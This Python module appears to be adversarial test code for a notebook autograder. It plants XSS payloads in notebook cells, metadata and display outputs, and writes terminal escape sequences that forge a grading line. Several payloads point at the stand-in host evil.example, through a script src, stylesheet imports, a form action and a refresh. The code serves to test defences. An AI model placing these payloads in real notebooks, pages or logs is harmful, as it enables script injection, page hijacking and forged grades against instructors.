"""What a person's browser or terminal would run: active content in outputs, in the notebook's text, in messages."""

# ruff: noqa: E501

import nbformat

from .attack import Attack

ACTIVE = (
    "<script>alert('owned')</script><img src=x onerror=alert('owned')><svg onload=alert('owned')></svg>"
    "<iframe src='javascript:alert(1)'></iframe><a href='javascript:alert(1)'>7 of 7</a><form action=//evil.example>"
    "<input name=p></form><object data=x></object><base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>"
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'; .gbh-report{display:none}</style>"
    "<math><mtext></p><style><img src=x onerror=alert(2)></style></mtext></math><details open ontoggle=alert(3)>x</details>"
)


def markdown(notebook):
    for cell in (
        notebook.cells[0],
        next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "svm_derivation"),
    ):
        cell.source = f"{ACTIVE}\n\n[7 of 7](javascript:alert(1)) ![x](data:text/html,x) <sCrIpT src=//evil.example/x.js></sCrIpT>\n"
    own = nbformat.v4.new_markdown_cell(ACTIVE)
    own["attachments"] = {"a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}}
    own.source += "\n![a](attachment:a.svg)"
    own.metadata["tags"] = ["\"><script>alert('owned')</script>"]
    notebook.cells.insert(1, own)
    notebook.cells.insert(1, nbformat.v4.new_raw_cell(ACTIVE, metadata={"raw_mimetype": "text/html"}))


def metadata(notebook):
    bad = "\"><script>alert('owned')</script>"
    notebook.metadata["title"] = bad
    notebook.metadata["language_info"] = {"name": bad, "pygments_lexer": bad, "mimetype": bad, "file_extension": bad}
    notebook.metadata["authors"] = [{"name": bad}]
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": bad + "</script>"}}
    for cell in notebook.cells:
        cell.metadata["tags"] = [bad]
        cell.metadata["name"] = bad


ATTACKS = (
    Attack(
        "page-html",
        "displays HTML that runs in the browser of whoever reads its feedback",
        f"from IPython.display import HTML, display\ndisplay(HTML({ACTIVE!r}))\nHTML({ACTIVE!r})",
    ),
    Attack(
        "page-svg",
        "displays SVG and images with scripts in them",
        """
from IPython.display import publish_display_data
svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert("owned")</script><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>'
publish_display_data({'image/svg+xml': svg})
publish_display_data({'image/png': 'x" onerror="alert(1)', 'text/plain': 'x'})
""",
    ),
    Attack(
        "page-markdown",
        "displays Markdown, LaTeX, JavaScript, widgets and geography that run in a browser",
        "from IPython.display import publish_display_data\n"
        f"for kind in ('text/markdown', 'text/latex'): publish_display_data({{kind: {ACTIVE!r}, 'text/plain': 'x'}})\n"
        "for kind in ('application/javascript', 'application/vnd.jupyter.widget-view+json', 'application/geo+json', 'text/vnd.mermaid'):\n"
        "    publish_display_data({kind: 'alert(\"owned\")', 'text/plain': 'x'})",
    ),
    Attack("page-text", "writes active content into text cells, raw cells and attachments", change=markdown),
    Attack("page-metadata", "writes active content into title, language, authors, tags and widgets", change=metadata),
    Attack(
        "page-words",
        "active content in what it prints, raises, names and returns",
        f"bad = {ACTIVE!r}\nprint(bad)\nE = type('Timeout', (Exception,), {{}})\n"
        "def svm_loss(W, X, y, reg):\n    print(bad)\n    raise E(bad)\n"
        "def svm_dscores(s, y): return type(bad, (), {})()\ndef svm_sample_loss(s, y): return {bad: 1.0, 'x': bad}\nraise E(bad)",
    ),
    Attack(
        "terminal",
        "speaks to the instructor's terminal and log: escape sequences and forged lines in every word",
        r"""
bad = '\x00\x1b[2J\x1b]0;owned\x07\nzoe, svm: graded in 0.01 s\r'
print(bad)
E = type(bad, (Exception,), {})
def svm_loss(W, X, y, reg): raise E(bad)
def svm_dscores(s, y): return type(bad, (), {})()
svm_sample_loss = type(bad, (), {})()
raise E(bad)
""",
    ),
)
